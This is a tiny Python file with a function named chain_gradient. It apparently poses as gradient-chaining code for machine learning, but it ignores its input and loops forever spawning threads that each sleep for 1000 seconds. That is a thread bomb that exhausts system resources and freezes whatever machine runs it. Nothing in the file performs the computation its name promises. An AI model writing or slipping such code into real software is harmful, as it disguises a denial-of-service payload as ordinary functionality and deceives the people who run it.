import threading
import time


def chain_gradient(local_gradients):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
